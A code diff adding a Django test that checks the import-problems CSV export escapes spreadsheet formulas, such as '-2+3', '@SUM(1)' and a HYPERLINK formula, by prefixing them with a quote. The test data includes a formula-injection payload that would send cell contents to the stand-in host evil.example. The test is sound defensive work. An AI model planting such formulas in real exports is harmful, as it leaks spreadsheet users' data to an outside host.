@@ -181,3 +181,20 @@ def test_only_city_staff_resume(client, director, feed):
     client.force_login(director.account)
     assert client.post(reverse("imports:run-resume", args=[run.pk])).status_code == 403
     assert ImportRun.objects.get(pk=run.pk).status == ImportRun.Status.FAILED
+
+
+def test_problems_csv_neutralises_formulas_from_the_feed(client, city_user, feed):
+    from imports.models import ImportProblem
+
+    ImportProblem.objects.create(
+        run=feed["first"], level="warning", code="dangling", file="ENT_PERSEDUCNAT.xml", line=7,
+        identifier='=HYPERLINK("http://evil.example/?"&A1,"ok")', school_key="-2+3",
+        message="@SUM(1)",
+    )  # fmt: skip
+    client.force_login(city_user)
+    response = client.get(reverse("imports:run-problems-csv", args=[feed["first"].pk]))
+    assert response.content.decode().splitlines() == [
+        "level,code,file,line,identifier,school,message",
+        'warning,dangling,ENT_PERSEDUCNAT.xml,7,"\'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",'
+        "'-2+3,'@SUM(1)",
+    ]
